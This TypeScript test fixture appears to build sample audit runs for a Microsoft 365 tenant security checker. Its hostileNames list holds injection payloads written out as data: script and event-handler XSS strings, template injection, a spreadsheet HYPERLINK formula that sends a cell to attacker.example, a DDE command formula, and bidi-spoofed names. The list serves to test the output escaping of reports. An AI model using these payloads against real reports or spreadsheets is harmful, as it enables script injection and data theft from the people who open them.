import type { Brand } from '../../src/model/brand.ts';
import type { Finding } from '../../src/model/finding.ts';
import type { Measure } from '../../src/model/measure.ts';
import { type CheckMetadata, type CheckResult, type ControlResult, type RetirementRecord, RunRecord } from '../../src/model/run-record.ts';

/** Names a tenant may hold that try to become markup, a formula, a link or another text. */
export const hostileNames: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '"><img src=x onerror="window.__pwned=1">',
  '</style></title><svg onload=window.__pwned=1>',
  '{{cover.tenantId}} {{{constructor}}} ${7*7}',
  'javascript:window.__pwned=1',
  '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+49 30 1234',
  '-2+3',
  '\t=1+1',
  'two\r\nlines, "quoted"',
  '\u202egnp.exe\u202c \u2066hidden\u2069 \u0007bell \u001b[31mred\u001b[0m',
  '[click](javascript:alert(1)) ![x](https://attacker.example/x.png) <https://attacker.example> www.attacker.example `code` | cell',
  `lone \ud800 surrogate`,
  'x'.repeat(10_000),
];

const learn = 'https://learn.microsoft.com/entra/identity/conditional-access/policy-block-legacy-authentication';

export function checkMeta(overrides: Partial<CheckMetadata> & { id: string }): CheckMetadata {
  return {
    area: 'identity',
    title: `Good state of ${overrides.id}`,
    failTitle: `Bad state of ${overrides.id}`,
    why: 'Somebody could sign in with nothing but a stolen password.',
    severity: 'medium',
    controls: [
      { framework: 'CISA SCuBA', id: 'MS.AAD.1.1v1' },
      { framework: 'CIS M365 7.0', id: '5.2.2.3' },
    ],
    references: [{ label: 'Block legacy authentication', url: learn }],
    remediation: {
      effort: 'low',
      impact: 'Programs older than ten years stop to sign in.',
      steps: ['Entra admin center > Protection > Conditional Access > Policies', 'Create a policy for all users that blocks the clients listed'],
      command: "New-MgIdentityConditionalAccessPolicy -DisplayName '<policy-name>'",
      rollback: 'Set the policy to report-only.',
    },
    servicePlans: [],
    needs: ['conditionalAccessPolicies'],
    wants: [],
    ...overrides,
  };
}

export function finding(id: string, name: string, more: Partial<Finding> = {}): Finding {
  return {
    subject: { type: 'user', id, name },
    message: `${name} is in the way.`,
    facts: { daysIdle: 143, lastSignInDateTime: '2026-03-30T08:12:44Z', enabled: true },
    ...more,
  };
}

const checks: CheckMetadata[] = [
  checkMeta({
    id: 'legacy-auth-not-blocked',
    title: 'Old sign-in protocols are blocked for everyone',
    failTitle: 'Old sign-in protocols are not blocked for everyone',
    severity: 'critical',
  }),
  checkMeta({
    id: 'apps-with-takeover-permissions',
    area: 'apps',
    title: 'No app can make itself administrator',
    failTitle: 'Some apps can make themselves administrator',
    severity: 'critical',
  }),
  checkMeta({ id: 'guests-inactive', title: 'Guests who stay away lose access', failTitle: 'Guests who stay away keep access', severity: 'low' }),
  checkMeta({
    id: 'update-rings-not-tiered',
    area: 'updates',
    title: 'Updates are tested on a few computers first',
    failTitle: 'Updates reach all computers at once',
    severity: 'medium',
  }),
  checkMeta({ id: 'device-code-flow-not-blocked', title: 'Device code sign-in is blocked', failTitle: 'Device code sign-in is open', severity: 'high' }),
  checkMeta({ id: 'apps-unused', area: 'apps', title: 'Apps that nobody uses are removed', failTitle: 'Some apps are used by nobody', severity: 'low' }),
  checkMeta({
    id: 'windows-devices-behind',
    area: 'updates',
    title: 'Windows computers have the newest monthly update',
    failTitle: 'Some Windows computers lack the newest monthly update',
    severity: 'high',
    needs: ['managedDevices'],
  }),
  checkMeta({
    id: 'mail-apps-unscoped',
    area: 'apps',
    title: 'Apps that read mail are limited to named mailboxes',
    failTitle: 'Some apps read every mailbox',
    severity: 'high',
  }),
  checkMeta({
    id: 'outlook-addins-unreviewed',
    area: 'apps',
    title: 'Add-ins are approved',
    failTitle: 'Some add-ins were never approved',
    severity: 'medium',
  }),
  checkMeta({
    id: 'sign-in-risk-unprotected',
    title: 'Risky sign-ins are stopped',
    failTitle: 'Risky sign-ins are let in',
    severity: 'high',
    servicePlans: ['AAD_PREMIUM_P2'],
  }),
  checkMeta({
    id: 'federation-certificate-expiring',
    title: 'Federation certificates are valid for months',
    failTitle: 'A federation certificate ends soon',
    severity: 'high',
  }),
  checkMeta({
    id: 'mfa-not-required-admins',
    title: 'Administrators always need a second factor',
    failTitle: 'Some administrators need no second factor',
    severity: 'critical',
  }),
];

const results: CheckResult[] = [
  {
    check: 'legacy-auth-not-blocked',
    verdict: 'fail',
    examined: 340,
    findings: hostileNames.map((name, at) => finding(`user-${at}`, name)),
    owner: 'IT operations',
    since: '2026-06-01',
  },
  {
    check: 'apps-with-takeover-permissions',
    verdict: 'fail',
    examined: 12,
    findings: [
      finding('app-1', 'Payroll bridge', { subject: { type: 'servicePrincipal', id: 'app-1', name: 'Payroll bridge' } }),
      finding('app-2', 'Old scanner', { facts: {} }),
    ],
    accepted: { reason: 'Replaced in October.', approvedBy: 'Maria Keller', until: '2026-10-31', subjects: ['app-2'] },
  },
  {
    check: 'guests-inactive',
    verdict: 'fail',
    findings: [finding('guest-1', '')],
    accepted: { reason: 'Known partner.', approvedBy: 'Maria Keller', until: '2026-12-31' },
  },
  {
    check: 'update-rings-not-tiered',
    verdict: 'fail',
    examined: 1,
    findings: [finding('ring-1', 'Default ring')],
    accepted: { reason: 'Small company.', approvedBy: 'Jonas Weber', until: '2026-05-31' },
  },
  { check: 'device-code-flow-not-blocked', verdict: 'pass', examined: 7 },
  { check: 'apps-unused', verdict: 'pass', examined: 48 },
  {
    check: 'windows-devices-behind',
    verdict: 'error',
    cause: {
      reason: 'permission',
      dataset: 'managedDevices',
      detail: 'GET /deviceManagement/managedDevices was refused (403).',
      fix: 'Grant DeviceManagementManagedDevices.Read.All.',
    },
  },
  {
    check: 'mail-apps-unscoped',
    verdict: 'error',
    cause: { reason: 'check', detail: 'The service sent a value that was not published when this check was written.' },
  },
  {
    check: 'outlook-addins-unreviewed',
    verdict: 'manual',
    steps: ['Open the list of integrated apps.', 'Ask the owner of each add-in whether it is still needed.'],
  },
  { check: 'sign-in-risk-unprotected', verdict: 'notLicensed', because: 'The tenant owns none of AAD_PREMIUM_P2.' },
  { check: 'federation-certificate-expiring', verdict: 'notApplicable', because: 'No domain is federated.' },
  { check: 'mfa-not-required-admins', verdict: 'pass', examined: 5 },
];

const controls: ControlResult[] = [
  { framework: 'CISA SCuBA', id: 'MS.AAD.10.1v1', verdict: 'pass', checks: ['mfa-not-required-admins'] },
  { framework: 'CISA SCuBA', id: 'MS.AAD.2.1v1', verdict: 'fail', checks: ['legacy-auth-not-blocked', 'gone-check'] },
  { framework: 'CIS M365 7.0', id: '5.2.2.3', verdict: 'error', checks: ['windows-devices-behind'] },
];

/** Apps by these names, `app-0` and so on, each with something from everybody who can give it. */
export function accessMeasure(names: readonly string[]): Measure {
  const labels = {
    app: 'App',
    publisher: 'Verified publisher',
    itself: 'Given to the app itself',
    everybody: 'Given for everybody',
    byPeople: 'Given by people for themselves',
    people: 'People',
    objectId: 'Object id',
  };
  const columns = Object.entries(labels).map(([id, label]) => ({ id, label }));
  const rows = names.map((name, at) => [name, name, 'Mail.Read, Sites.FullControl.All', `openid, ${name}`, 'Calendars.Read', 2, `app-${at}`]);
  return { id: 'app-access', label: 'Apps that were given access', unit: 'apps', value: names.length + 60, table: { columns, rows } };
}

const measures: Measure[] = [
  {
    id: 'patch-coverage-today',
    label: 'Computers with the newest monthly update',
    value: 99.96,
    unit: 'percent',
    numerator: 2499,
    denominator: 2500,
    dataDate: '2026-08-19',
    series: [{ label: '7 days', value: 61 }],
  },
  { id: 'patch-coverage-30d', label: '30 days after release', value: null, unit: 'percent', because: 'The update is nine days old.' },
  { id: 'time-to-patch-critical', label: 'Median time to patch', value: null, unit: 'days', because: 'This is the first scan.' },
  { id: 'ring-bound', label: 'Longest time the slowest ring may take', value: 1, unit: 'days' },
  accessMeasure(hostileNames),
];

const base = { subjects: [], messageCenterIds: [], breaks: 'Apps that still call it stop.' };
const retirements: RetirementRecord[] = [
  {
    ...base,
    id: 'ews',
    title: 'Exchange Web Services',
    date: '2026-10-01',
    daysLeft: 42,
    exposure: 'exposed',
    subjects: [{ type: 'servicePrincipal', id: 'a', name: hostileNames[0] ?? '' }],
    messageCenterIds: ['MC123456'],
    check: 'legacy-auth-not-blocked',
    confirm: true,
    movedFrom: '2026-09-01',
    datedBy: 'MC123456',
  },
  { ...base, id: 'aad-graph', title: 'Azure AD Graph', date: '2025-06-30', daysLeft: -416, exposure: 'exposed', because: 'Two apps hold its permissions.' },
  { ...base, id: 'acs', title: 'SharePoint ACS', date: '2026-12', daysLeft: 133, exposure: 'unknown', because: 'The list of apps could not be read.' },
  { ...base, id: 'addins', title: 'Legacy add-in tokens', date: null, daysLeft: null, exposure: 'manual', because: 'Ask each vendor.' },
  { ...base, id: 'connectors', title: 'Office connectors', date: '2027', daysLeft: 498, exposure: 'notExposed' },
];

/** All six verdicts, every kind of acceptance and exposure, measures without a value, hostile names. */
export function sampleRun(overrides: Partial<RunRecord> = {}): RunRecord {
  return RunRecord.parse({
    schemaVersion: 1,
    tool: { name: 'tidytenant', version: '0.1.0' },
    tenant: { id: '0b9f2f2e-5a51-4f0e-9d1c-3a1f6f5f0001', name: `Contoso ${hostileNames[2]}`, domain: 'contoso.example', servicePlans: ['AAD_PREMIUM'] },
    startedAt: '2026-08-20T12:00:00Z',
    finishedAt: '2026-08-20T12:04:40Z',
    advisoriesAsOf: '2026-07-06',
    datasets: [
      {
        id: 'conditionalAccessPolicies',
        about: 'Rules for signing in',
        source: 'graph',
        path: '/identity/conditionalAccess/policies',
        permissions: ['Policy.Read.All'],
        ok: true,
        items: 7,
        pages: 1,
        requests: 1,
        at: '2026-08-20T12:01:00Z',
      },
      {
        id: 'managedDevices',
        about: 'Computers and phones under management',
        source: 'graph',
        path: '/deviceManagement/managedDevices',
        permissions: ['DeviceManagementManagedDevices.Read.All'],
        ok: false,
        requests: 1,
        reason: 'permission',
        detail: 'GET /deviceManagement/managedDevices was refused (403).',
        requestId: '5b1c2d3e-0000-4444-8888-aabbccddeeff',
      },
    ],
    checks,
    results,
    controls,
    measures,
    retirements,
    score: { value: 71.97, coverage: 0.8181 },
    requests: { total: 612, throttled: 3, retried: 5, bytes: 18_234_567 },
    ...overrides,
  });
}

/** A name on the report, as far as one can be given. */
export const sampleBrand: Brand = {
  name: 'Northwind IT',
  logo: { mediaType: 'image/png', base64: 'iVBORw0KGgo=' },
  color: '#ffb000',
  contact: 'help@northwind.example, +49 30 1234',
  cover: 'Dear board,\n\nthis is what we found.',
  footer: 'Confidential.',
};
const firstNames = [
  'Aino',
  'Bruno',
  'Chloé',
  'Dmitri',
  'Ewa',
  'Fatima',
  'Goran',
  'Håkon',
  'Imke',
  'João',
  'Kwame',
  'Liesel',
  'Mbali',
  'Noor',
  'Oddný',
  'Priya',
];
const lastNames = [
  'Achterberg',
  'Brandão',
  'Castellanos',
  'Dąbrowski',
  'Eriksen',
  'Feldmann',
  'Grünwald',
  'Hoekstra',
  'Ivanova',
  'Jørgensen',
  'Kowalczyk',
  'Lindqvist',
];

/** Names as different as those of people and computers: they hardly compress. */
export function personName(at: number): string {
  const mixed = Math.imul(at + 1, 2_654_435_761) >>> 0;
  const first = firstNames[mixed % firstNames.length];
  const last = lastNames[(mixed >>> 8) % lastNames.length];
  return at % 3 === 0 ? `LAPTOP-${mixed.toString(36).toUpperCase()}` : `${first} ${last} ${mixed % 100_000}`;
}

/** A run with `total` findings spread evenly over `over` failed checks. */
export function manyFindings(total: number, over: number, nameOf = (check: string, at: number) => `Person number ${at} of ${check}`): RunRecord {
  const ids = Array.from({ length: over }, (_, at) => `check-${at}`);
  const per = Math.ceil(total / over);
  return sampleRun({
    checks: ids.map((id, at) => checkMeta({ id, severity: at % 9 === 0 ? 'critical' : 'medium' })),
    results: ids.map((check) => ({
      check,
      verdict: 'fail' as const,
      examined: per,
      findings: Array.from({ length: per }, (_, at) => finding(`${check}-${at}`, nameOf(check, at))),
    })),
    controls: [],
  });
}
